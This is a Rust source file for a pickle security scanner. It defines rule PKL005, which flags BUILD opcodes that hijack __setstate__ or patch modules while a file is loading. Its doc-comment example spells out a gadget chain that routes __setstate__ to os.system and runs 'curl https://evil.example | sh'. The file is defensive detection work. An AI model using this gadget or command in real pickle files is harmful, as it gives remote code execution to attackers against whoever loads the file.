//! ## What it does
//! Flags a `BUILD` opcode that sets special attributes (`__setstate__`,
//! `__reduce__`, `__class__`, `__dict__`, `__globals__`, `__builtins__`, ...)
//! on an object, or that sets state on something that is not an instance the
//! pickle created (a class, a function, a module such as `numpy`).
//!
//! ## Why is this bad?
//! `BUILD` normally fills in an object's fields. Setting `__setstate__` to
//! `os.system` on an allowlisted `OrderedDict` makes the *next* `BUILD` call
//! it; setting attributes on a module patches the running program (a "Sleepy
//! Pickle" that alters the framework instead of spawning a process). Both turn
//! an allowlisted object into a gadget.
//!
//! ## Example
//! ```text
//! NEWOBJ collections.OrderedDict
//! BUILD  {'__setstate__': os.system}
//! BUILD  'curl https://evil.example | sh'    -> os.system('curl https://evil.example | sh')
//! ```
//!
//! ## References
//! - Liu et al., "Hide and Seek" (arXiv:2508.19774), `__setstate__` hijack
//! - Trail of Bits, "Exploiting ML models with pickle file attacks" (Sleepy Pickle, 2024)
use crate::finding::Severity;
use crate::rules::Rule;

pub static RULE: Rule = Rule {
    code: "PKL005",
    name: "state-hijack",
    severity: Severity::Critical,
    summary: "the pickle rewires an object's or a module's behaviour while loading",
    path: "pickle/state_hijack",
};

/// Attribute names that change how an object behaves rather than what it holds.
pub fn is_special_attribute(name: &str) -> bool {
    name.starts_with("__")
        && name.ends_with("__")
        && !matches!(
            name,
            "__module__"
                | "__qualname__"
                | "__doc__"
                | "__annotations__"
                | "__name__"
                | "__kwdefaults__"
                | "__defaults__"
        )
}
